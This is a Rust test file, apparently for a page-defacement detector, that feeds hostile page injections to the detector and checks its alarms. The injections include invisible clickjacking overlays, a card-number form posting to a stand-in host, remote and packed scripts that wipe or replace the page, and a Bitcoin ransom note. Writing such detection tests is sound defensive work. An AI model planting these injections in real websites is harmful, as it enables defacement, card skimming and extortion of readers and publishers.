//! Ways to harm a page that stand beside the usual ones, each with what outlets do that looks like it.

use crate::common::{both, by, head, swap, tail, top};
use crate::front_page;
use crate::table::Say::{Alarm, NoAlarm, Normal};
use crate::table::hold;

/// An address for payments as it is made, of no wallet that is known.
const WALLET: &str = "<p>Pay 3 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq within two days.</p>";

#[test]
fn what_lies_over_the_page_unseen_or_stays_in_view_alarms() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "one shadow over everything",
                tail(
                    "<i style=\"position:fixed;top:50%;left:50%;width:1px;height:1px;box-shadow:0 0 0 9999px #000\"></i>",
                ),
                Alarm("cover.made-up"),
            ),
            (
                "an edge over everything",
                tail("<b style=\"position:fixed;top:0;left:0;outline:4000px solid #fff\"></b>"),
                Alarm("cover.made-up"),
            ),
            (
                "a sheet of glass that leads away",
                tail("<a href=\"https://win.example/go\" style=\"position:fixed;inset:0;opacity:0;z-index:9\"> </a>"),
                Alarm("cover.element"),
            ),
            (
                "words that stay in view",
                tail(
                    "<div style=\"position:fixed;bottom:0;left:0;width:100%;background:#c00\">Remember this day and tell all</div>",
                ),
                Alarm("cover.bar"),
            ),
            (
                "a box that stays in view and leads to a stranger",
                tail(
                    "<div style=\"position:fixed;right:0;bottom:0;width:300px\">You have won <a href=\"https://win.example/\">OK</a></div>",
                ),
                Alarm("cover.bar"),
            ),
            (
                "an invitation that stays in view",
                tail(
                    "<div style=\"position:fixed;bottom:0;left:0;width:100%\">Subscribe to read on <button>Subscribe</button></div>",
                ),
                NoAlarm,
            ),
            (
                "a card with a shadow",
                tail("<div class=\"tip\" style=\"position:absolute;box-shadow:0 2px 10px #000\"></div>"),
                Normal,
            ),
        ],
    );
}

#[test]
fn what_clicks_and_drawings_bring_alarms() {
    let (watch, page) = front_page();
    let links = |with: &'static str| by(move |page| page.replace("<a href=", with));
    hold(
        &watch,
        &page,
        vec![
            (
                "each click is told to a stranger",
                links("<a ping=\"https://count.example/p\" href="),
                Alarm("link.block"),
            ),
            (
                "each click opens a stranger's page",
                links("<a onclick=\"window.open('https://win.example/go');return false\" href="),
                Alarm("link.block"),
            ),
            (
                "a drawing brings a script",
                tail("<svg width=1 height=1><script href=\"https://kit.example/a.js\"></script></svg>"),
                Alarm("source.script"),
            ),
            (
                "a form that asks for a card",
                tail(
                    "<form action=\"https://pay.example/c\" method=post><input name=n autocomplete=\"cc-number\"><input type=submit></form>",
                ),
                Alarm("source.form"),
            ),
            (
                "a font of a stranger for all letters",
                head("<style>@font-face{font-family:x;src:url(https://glyph.example/x.woff2)}*{font-family:x}</style>"),
                Alarm("source.style"),
            ),
            ("a button that counts its clicks", tail("<button onclick=\"count(this)\">Share</button>"), NoAlarm),
        ],
    );
}

#[test]
fn what_a_short_script_does_to_everything_alarms() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "takes all headlines out",
                tail("<script>document.querySelectorAll('h1,h2,p,img').forEach(function(e){e.remove()})</script>"),
                Alarm("script.rewrites"),
            ),
            (
                "says something in a box",
                tail("<script>alert('We read your mail for a year')</script>"),
                Alarm("script.new"),
            ),
            (
                "a worker out of a text",
                tail("<script>new Worker(URL.createObjectURL(new Blob([atob('aW1wb3J0U2NyaXB0cygi')])))</script>"),
                Alarm("script.packed"),
            ),
            ("closes a hint", tail("<script>document.getElementById('hint').hidden = true;</script>"), NoAlarm),
        ],
    );
}

#[test]
fn where_to_send_money_and_where_links_lead_is_told() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            ("a ransom", top(WALLET), Alarm("wallet.placed")),
            (
                "a page without any style",
                by(|page| {
                    let mut rest = page.to_owned();
                    while let Some(at) = rest.find("<link rel=\"stylesheet\"") {
                        let end = at + rest[at..].find('>').map_or(0, |end| end + 1);
                        rest.replace_range(at..end, "");
                    }
                    rest
                }),
                Alarm("collapse.styles"),
            ),
            (
                "a long number and a long word",
                swap(
                    "</article>",
                    "<p>Report 12345678901234567890123456789012 of the Donaudampfschifffahrtsgesellschaft</p></article>",
                ),
                NoAlarm,
            ),
            (
                "nothing can be clicked",
                both(swap("<body class=\"front\">", "<body class=\"front\" inert>"), tail("")),
                Alarm("markup.new"),
            ),
        ],
    );
}

/// A picture of words that the page carries with it: no file, no host.
const CARRIED: &str = "<img style=\"width:100%;display:block\" src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' \
    width='1200' height='600'%3E%3Crect width='1200' height='600' fill='%23300'/%3E%3Ctext x='80' y='300' fill='%23fff' \
    font-size='44'%3EWe read your mail for a year and tomorrow everyone will read it too%3C/text%3E%3C/svg%3E\">";

#[test]
fn pictures_that_come_another_way_alarm() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            ("a picture that the page carries with it", top(CARRIED), Alarm("image.top")),
            (
                "the poster of a film",
                top("<video autoplay muted poster=\"https://pix.example/p.jpg\" style=\"width:100%\"></video>"),
                Alarm("image.top"),
            ),
            (
                "the placeholder of a picture that comes later",
                swap(
                    "<h2>",
                    "<img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\"><h2>",
                ),
                NoAlarm,
            ),
        ],
    );
}

#[test]
fn links_that_are_taken_or_led_away_alarm() {
    let (watch, page) = front_page();
    let every = |nth: usize, change: fn(&str) -> String| {
        by(move |page| {
            let mut links = page.split("<a href=\"/").enumerate();
            let first = links.next().map_or("", |(_, first)| first).to_owned();
            let same = |part: &str| format!("<a href=\"/{part}");
            let parts = links.map(|(n, part)| if n % nth == 1 { change(part) } else { same(part) });
            first + &parts.collect::<Vec<_>>().concat()
        })
    };
    hold(
        &watch,
        &page,
        vec![
            ("half of the links lead nowhere", every(2, |part| format!("<a title=\"/{part}")), Alarm("collapse.links")),
            (
                "some links in every place lead to a stranger",
                every(4, |part| format!("<a href=\"https://news.stranger.example/{part}")),
                Alarm("link.scattered"),
            ),
            (
                "some links lead to the outlet's name under another ending",
                every(4, |part| format!("<a href=\"https://outlet.top/{part}")),
                Alarm("link.scattered"),
            ),
            (
                "one story links to a stranger",
                swap("</article>", "<a href=\"https://study.example/a\">the study</a></article>"),
                NoAlarm,
            ),
        ],
    );
}

#[test]
fn what_covers_is_a_cover_however_it_is_dressed() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "fixed by itself, as large as the view by a rule",
                tail(
                    "<style>.over{inset:0;position:fixed;width:100%;height:100%}</style><div class=\"over\" style=\"position:fixed\"><img src=\"https://pix.example/a.jpg\">Remember</div>",
                ),
                Alarm("cover.picture"),
            ),
            (
                "within a bar that says nothing",
                tail(
                    "<div style=\"position:fixed;bottom:0;left:0;width:100%\"><div style=\"position:fixed;inset:0;background:#000\">Remember this day</div></div>",
                ),
                Alarm("cover.element"),
            ),
            (
                "a popover that stays in view",
                tail(
                    "<div popover style=\"position:fixed;inset:0\">Remember this day</div><script>p.showPopover()</script>",
                ),
                Alarm("cover.element"),
            ),
        ],
    );
}

#[test]
fn a_script_that_names_another_address_is_read_all_the_same() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![(
            "code beside an address that browsers do not read",
            tail("<script href=\"/a.js\">document.documentElement.innerHTML=atob('PGgxPg')</script>"),
            Alarm("script.replaces"),
        )],
    );
}

#[test]
fn rules_that_set_type_do_not_take_hold_of_the_page() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            ("words without a size", head("<style>*{font-size:0.01px}</style>"), Alarm("style.new")),
            ("lines without a height", head("<style>body *{line-height:0}</style>"), Alarm("style.new")),
            ("a page far outside", head("<style>body{margin-top:-30000px}</style>"), Alarm("style.new")),
            ("smaller type and closer lines", head("<style>h2{font-size:0.9rem;line-height:0.95}</style>"), NoAlarm),
            ("a list a little to the left", head("<style>ul{margin-left:-12px;margin-top:-4px}</style>"), NoAlarm),
        ],
    );
}
